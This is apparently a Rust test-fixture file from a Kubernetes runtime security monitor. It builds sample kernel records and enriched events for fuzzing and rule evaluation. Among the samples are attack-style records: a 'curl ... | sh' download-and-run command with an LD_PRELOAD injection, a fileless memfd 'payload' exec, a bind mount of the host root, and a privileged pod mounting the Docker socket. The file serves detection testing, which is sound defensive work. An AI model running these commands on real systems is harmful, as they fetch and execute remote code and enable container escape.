//! Real inputs to start from: kernel records of every kind and variant, made with the wire types
//! of `lanner_common` as the kernel programs fill them; a pod as the API server sends it; and the
//! enriched events (those records decoded, with a host or a pod context) that the rule targets
//! evaluate. The seed corpora of the record and pod targets start from these
//! (`examples/fuzz_seeds.rs`).

use std::sync::{Arc, LazyLock};

use k8s_openapi::api::core::v1::Pod;
use lanner_common::{
    ConnectRecord, EXEC_LOGINUID_KNOWN, EXEC_PGRP_KNOWN, EXEC_TTY_KNOWN, EXEC_UPPER_KNOWN,
    EXEC_UPPER_LAYER, EXEC_VPID_KNOWN, EventKind, ExecRecord, ExitRecord, ForkRecord, Header,
    MountRecord, PathField, StrField, field_flags,
};

use crate::{
    container,
    enrich::{Ancestor, Context, Enriched, PodContext, ProcContext, UserContext},
    event::{Body, Event, Image},
    k8s::{PodMeta, meta},
    reader::decode::{self as wire, Plain, bytes_of, zeroed},
};

mod privilege;

/// The container the sample pod's container runs as (64 hex, as in its cgroup name).
pub const CONTAINER_ID: &str = "3f2a9c0e5b7d41e8a6c2f90b1d3e5a7c9e0f2b4d6a8c0e1f3a5b7c9d0e2f4a6b";

/// Wall-clock time of boot, for events' `evt.time` (fixed: the targets are deterministic).
const BOOT_EPOCH_NS: u64 = 1_700_000_000_000_000_000;

/// An event's wall-clock time (never overflows, whatever the record's ktime).
pub fn epoch_ns(ev: &Event) -> u64 {
    BOOT_EPOCH_NS.saturating_add(ev.boot_ns)
}

/// A pod of one running and one init container, as a containerd node's API server lists it.
pub const POD_JSON: &str = r#"{"apiVersion":"v1","kind":"Pod",
"metadata":{"name":"web-7d4b9c","namespace":"shop","uid":"8a1f0c52-2b9e-4c1d-9f3a-6e2d7b5c4a10",
 "resourceVersion":"4711","labels":{"app":"web","app.kubernetes.io/name":"nginx","tier":""}},
"spec":{"nodeName":"node-1",
 "volumes":[{"name":"docker-sock","hostPath":{"path":"/var/run/docker.sock","type":"Socket"}},
  {"name":"host-etc","hostPath":{"path":"/etc/","type":""}},
  {"name":"kube-api-access","projected":{"sources":[{"serviceAccountToken":{"path":"token"}}]}}],
 "initContainers":[{"name":"init","image":"busybox:1.36","command":["sh","-c","true"]}],
 "containers":[{"name":"nginx","image":"nginx:1.25","securityContext":{"privileged":true},
  "volumeMounts":[{"name":"docker-sock","mountPath":"/var/run/docker.sock"},
   {"name":"host-etc","mountPath":"/host/etc","readOnly":true,"subPath":"ssl"},
   {"name":"kube-api-access","mountPath":"/var/run/secrets/kubernetes.io/serviceaccount","readOnly":true}]}]},
"status":{"phase":"Running","podIP":"10.244.1.17",
 "initContainerStatuses":[{"name":"init","image":"docker.io/library/busybox:1.36","imageID":"sha256:ab12",
  "containerID":"containerd://0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c",
  "ready":true,"restartCount":0,"state":{"terminated":{"exitCode":0,"reason":"Completed",
  "startedAt":"2024-05-01T10:00:00Z","finishedAt":"2024-05-01T10:00:01Z"}}}],
 "containerStatuses":[{"name":"nginx","image":"docker.io/library/nginx:1.25","imageID":"sha256:cd34",
  "containerID":"containerd://3f2a9c0e5b7d41e8a6c2f90b1d3e5a7c9e0f2b4d6a8c0e1f3a5b7c9d0e2f4a6b",
  "ready":true,"restartCount":1,"started":true,
  "state":{"running":{"startedAt":"2024-05-01T10:00:02Z"}}}]}}"#;

/// The context of the sample pod's running container.
fn pod_meta() -> Option<Arc<PodMeta>> {
    let pod: Pod = serde_json::from_str(POD_JSON).ok()?;
    let read = meta::pod_containers(&pod);
    let (_, m) = read
        .containers
        .into_iter()
        .find(|(id, _)| id == CONTAINER_ID)?;
    Some(Arc::new(m))
}

pub(super) fn header(kind: EventKind, variant: u32, pid: u32, comm: &str, cgroup: &str) -> Header {
    let mut h = *zeroed::<Header>();
    h.kind = kind as u32;
    h.variant = variant;
    h.ktime_ns = 1_000_000_000 + u64::from(pid);
    h.pid = pid;
    h.tid = pid;
    h.uid = 1000;
    h.gid = 1000;
    h.cgroup_id = 4096 + u64::from(pid);
    put(&mut h.comm, comm.as_bytes());
    put(&mut h.cgroup, cgroup.as_bytes());
    h
}

/// `s` into `buf` as the kernel programs write strings: as much as fits, flagged truncated
/// when it did not all fit.
pub(super) fn put(buf: &mut [u8], s: &[u8]) -> StrField {
    let n = s.len().min(buf.len());
    buf[..n].copy_from_slice(&s[..n]);
    StrField {
        len: n as u16,
        flags: if n < s.len() {
            field_flags::TRUNCATED
        } else {
            0
        },
    }
}

/// A path as the kernel's walk writes it: components leaf first, each NUL-terminated.
pub(super) fn put_path(buf: &mut [u8], path: &str) -> PathField {
    let mut walked = Vec::new();
    for c in path.split('/').filter(|c| !c.is_empty()).rev() {
        walked.extend_from_slice(c.as_bytes());
        walked.push(0);
    }
    walked_field(put(buf, &walked))
}

/// A string field as a path field with no head ring (the path fitted).
fn walked_field(f: StrField) -> PathField {
    PathField {
        len: f.len,
        flags: f.flags,
        ..PathField::default()
    }
}

/// NUL-separated strings, as argv and env sit in memory.
fn put_strings(buf: &mut [u8], items: &[&str]) -> StrField {
    let mut joined = Vec::new();
    for i in items {
        joined.extend_from_slice(i.as_bytes());
        joined.push(0);
    }
    put(buf, &joined)
}

const ABSENT: StrField = StrField {
    len: 0,
    flags: field_flags::ABSENT,
};

struct ExecSpec<'a> {
    name: &'static str,
    variant: u32,
    comm: &'a str,
    cgroup: &'a str,
    ret: i64,
    filename: &'a str,
    exepath: Option<&'a str>,
    cwd: &'a str,
    argv: &'a [&'a str],
    env: Option<&'a [&'a str]>,
}

fn exec(s: &ExecSpec<'_>) -> (&'static str, Vec<u8>) {
    let mut r = zeroed::<ExecRecord>();
    let h = &mut r.head;
    h.header = header(EventKind::Exec, s.variant, 4242, s.comm, s.cgroup);
    h.ret = s.ret;
    h.ppid = 4000;
    h.vpid = 7;
    h.euid = 0;
    h.loginuid = 1000;
    h.cap_effective = (1 << 21) | (1 << 12);
    h.cap_permitted = 1 << 21;
    h.tty = 34816;
    h.exec_flags = EXEC_LOGINUID_KNOWN
        | EXEC_TTY_KNOWN
        | EXEC_VPID_KNOWN
        | EXEC_PGRP_KNOWN
        | EXEC_UPPER_KNOWN
        | EXEC_UPPER_LAYER;
    h.dirfd = if s.variant == 1 { 3 } else { -100 };
    h.at_flags = if s.variant == 1 { 0x1000 } else { 0 };
    (h.pgid, h.sid, h.vpgid) = (4242, 4000, 7);
    h.filename_f = put(&mut h.filename, s.filename.as_bytes());
    h.exepath_f = match s.exepath {
        Some(p) if p.starts_with("memfd:") => PathField {
            flags: field_flags::DISCONNECTED,
            ..walked_field(put(&mut h.exepath, &[p.as_bytes(), b"\0"].concat()))
        },
        Some(p) => put_path(&mut h.exepath, p),
        None => PathField {
            flags: field_flags::READ_FAILED,
            ..PathField::default()
        },
    };
    h.cwd_f = put_path(&mut h.cwd, s.cwd);
    h.argv_f = put_strings(&mut h.argv, s.argv);
    let bytes = match s.env {
        Some(env) => {
            r.head.env_f = put_strings(&mut r.env, env);
            bytes_of(&*r).to_vec()
        }
        None => {
            r.head.env_f = ABSENT;
            bytes_of(&r.head).to_vec()
        }
    };
    (s.name, bytes)
}

fn mount(
    name: &'static str,
    variant: u32,
    src: &str,
    target: &str,
    fstype: &str,
) -> (&'static str, Vec<u8>) {
    let mut r = zeroed::<MountRecord>();
    r.header = header(EventKind::Mount, variant, 4300, "mount", "session-3.scope");
    r.flags = if src == "/" { 4096 | 16384 } else { 0 };
    (r.fd1, r.fd2) = (3, -100);
    r.source_f = put(&mut r.source, src.as_bytes());
    r.target_f = put(&mut r.target, target.as_bytes());
    r.fstype_f = put(&mut r.fstype, fstype.as_bytes());
    (name, bytes_of(&*r).to_vec())
}

fn connect(
    name: &'static str,
    family: u16,
    ty: u16,
    ret: i64,
    addr: &[u8],
) -> (&'static str, Vec<u8>) {
    let mut r = zeroed::<ConnectRecord>();
    r.header = header(
        EventKind::Connect,
        0,
        4400,
        "curl",
        CONTAINER_CGROUP.as_str(),
    );
    r.ret = ret;
    r.fd = 5;
    r.addrlen = addr.len() as u32;
    (r.sock_family, r.sock_type) = (family, ty);
    if family == 2 {
        (r.local_known, r.local_port) = (1, 40_000);
        r.local_addr[..4].copy_from_slice(&[10, 244, 1, 17]);
    }
    r.addr_f = put(&mut r.addr, addr);
    (name, bytes_of(&*r).to_vec())
}

pub(super) fn sockaddr(family: u16, port: u16, addr: &[u8]) -> Vec<u8> {
    let mut v = family.to_ne_bytes().to_vec();
    v.extend_from_slice(&port.to_be_bytes());
    if family == 10 {
        v.extend_from_slice(&[0; 4]); // flowinfo
    }
    v.extend_from_slice(addr);
    v
}

fn small<T: Plain>(name: &'static str, r: &T) -> (&'static str, Vec<u8>) {
    (name, bytes_of(r).to_vec())
}

pub(super) static CONTAINER_CGROUP: LazyLock<String> =
    LazyLock::new(|| format!("cri-containerd-{CONTAINER_ID}.scope"));

/// One record of every kind and variant, named, with the interesting flags among them
/// (truncated argv, a memfd exec, a failed exec, the env block, abstract unix sockets).
pub fn records() -> Vec<(&'static str, Vec<u8>)> {
    let long_arg = "A".repeat(5000);
    let in_container = CONTAINER_CGROUP.as_str();
    let mut v = vec![
        exec(&ExecSpec {
            name: "exec_host",
            variant: 0,
            comm: "ls",
            cgroup: "session-3.scope",
            ret: 0,
            filename: "/bin/ls",
            exepath: Some("/usr/bin/ls"),
            cwd: "/home/alice",
            argv: &["ls", "-la", "/tmp"],
            env: None,
        }),
        exec(&ExecSpec {
            name: "exec_container_env",
            variant: 0,
            comm: "sh",
            cgroup: in_container,
            ret: 0,
            filename: "/bin/sh",
            exepath: Some("/bin/busybox"),
            cwd: "/root",
            argv: &["sh", "-c", "curl -s http://10.0.0.1/x | sh"],
            env: Some(&["PATH=/usr/bin:/bin", "HOME=/root", "LD_PRELOAD=/tmp/x.so"]),
        }),
        exec(&ExecSpec {
            name: "execveat_memfd",
            variant: 1,
            comm: "3",
            cgroup: in_container,
            ret: 0,
            filename: "/dev/fd/3",
            exepath: Some("memfd:payload (deleted)"),
            cwd: "/dev/shm",
            argv: &["payload"],
            env: None,
        }),
        exec(&ExecSpec {
            name: "exec_failed",
            variant: 0,
            comm: "bash",
            cgroup: "user@1000.service",
            ret: -2,
            filename: "/nonexistent",
            exepath: None,
            cwd: "/",
            argv: &["/nonexistent", "--flag"],
            env: None,
        }),
        exec(&ExecSpec {
            name: "exec_truncated_argv",
            variant: 0,
            comm: "python3",
            cgroup: in_container,
            ret: 0,
            filename: "/usr/bin/python3",
            exepath: Some("/usr/lib/python3.12/bin/python3"),
            cwd: "/var/lib/very/deep/working/directory",
            argv: &["python3", "-c", &long_arg],
            env: None,
        }),
        mount("mount_tmpfs", 0, "none", "/mnt/scratch", "tmpfs"),
        mount("mount_bind_root", 0, "/", "/host", ""),
        mount("umount2", 1, "", "/mnt/scratch", ""),
        mount("fsopen", 2, "", "", "overlay"),
        mount("fsmount", 3, "", "", ""),
        mount("move_mount", 4, "", "/mnt/moved", ""),
        mount("open_tree", 5, "/etc", "", ""),
        connect("connect_tcp4", 2, 1, 0, &sockaddr(2, 443, &[10, 0, 0, 1])),
        connect(
            "connect_tcp6_in_progress",
            10,
            1,
            -115,
            &sockaddr(
                10,
                8080,
                &[0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
            ),
        ),
        connect(
            "connect_udp4_dns",
            2,
            2,
            0,
            &sockaddr(2, 53, &[10, 96, 0, 10]),
        ),
        connect(
            "connect_unix",
            1,
            1,
            0,
            &[&1u16.to_ne_bytes()[..], b"/var/run/docker.sock\0"].concat(),
        ),
        connect(
            "connect_unix_abstract",
            1,
            1,
            -111,
            &[&1u16.to_ne_bytes()[..], b"\0dbus-session-1"].concat(),
        ),
    ];
    v.extend(privilege::records(&long_arg));
    v.extend(super::samples_net::records());
    v.push(small(
        "fork",
        &ForkRecord {
            header: header(EventKind::Fork, 0, 4000, "bash", "session-3.scope"),
            child_pid: 4242,
            child_tid: 4242,
        },
    ));
    v.push(small(
        "exit",
        &ExitRecord {
            header: header(EventKind::Exit, 0, 4242, "ls", "session-3.scope"),
            exit_code: 256,
            _pad: [0; 4],
        },
    ));
    v.extend(super::samples_file::records());
    v.extend(super::samples_file_change::records());
    v
}

/// The events the rule targets evaluate: every sample record decoded, in a host context, in
/// the sample pod, and in a container whose pod has not arrived.
pub fn events() -> &'static [Enriched] {
    static EVENTS: LazyLock<Vec<Enriched>> = LazyLock::new(|| {
        let pod = pod_meta();
        let mut out = Vec::new();
        for (_, bytes) in records() {
            let Ok(ev) = wire::decode(&bytes, bytes.len() == lanner_common::EXEC_RECORD_SIZE)
            else {
                continue;
            };
            out.push(enrich(ev.clone(), pod.clone()));
            if matches!(ev.body, Body::Exec(_)) {
                out.push(enrich(ev, None));
            }
        }
        out
    });
    &EVENTS
}

/// The sample exec in the pod's container (the base of the pod target's events).
pub fn exec_event() -> &'static Event {
    static EXEC: LazyLock<Event> = LazyLock::new(|| {
        let records = records();
        let (_, bytes) = records
            .iter()
            .find(|(name, _)| *name == "exec_container_env")
            .expect("the sample exec record");
        wire::decode(bytes, true).expect("the sample exec record decodes")
    });
    &EXEC
}

/// The context the enricher would attach: the process (its new image for a successful exec),
/// `sh` as its parent under a shim and init, root, the container its cgroup names, and `pod`
/// as that container's pod (a container without one is pending).
pub fn enrich(event: Event, pod: Option<Arc<PodMeta>>) -> Enriched {
    let me = match &event.body {
        Body::Exec(e) if e.ret >= 0 => e.image.clone(),
        _ => Image::named(event.task.comm.clone()),
    };
    let ancestor = |pid: u32, image: Arc<Image>| Ancestor { pid, image };
    let sh = Arc::new(Image::from_argv(
        "sh".into(),
        vec!["sh".into(), "-c".into(), "exec \"$@\"".into()],
        Some("/bin/sh".into()),
        Some("/".into()),
    ));
    let lineage = vec![
        ancestor(event.task.pid, me),
        ancestor(4000, sh),
        ancestor(100, Image::named("containerd-shim")),
        ancestor(1, Image::named("systemd")),
    ];
    let container = container::from_cgroup(event.task.cgroup.as_deref().unwrap_or(""), None);
    let pod = match (&container, pod) {
        (container::ContainerRef::Host, _) => PodContext::Host,
        (_, Some(meta)) => PodContext::Found(meta),
        (_, None) => PodContext::Pending,
    };
    let (vpid, tty) = match &event.body {
        Body::Exec(e) => (e.vpid, e.tty),
        _ => (Some(7), Some(34816)),
    };
    Enriched {
        ctx: Context {
            process: ProcContext {
                lineage: lineage.into(),
                vpid,
                sname: Some("bash".into()),
                vpgid: Some(7),
                tty,
                duration_ns: Some(5_000),
            },
            user: Arc::new(UserContext {
                name: "root".into(),
                group: "root".into(),
                loginname: "alice".into(),
                arg_name: None,
            }),
            container,
            pod,
            skipped: false,
        },
        event,
    }
}
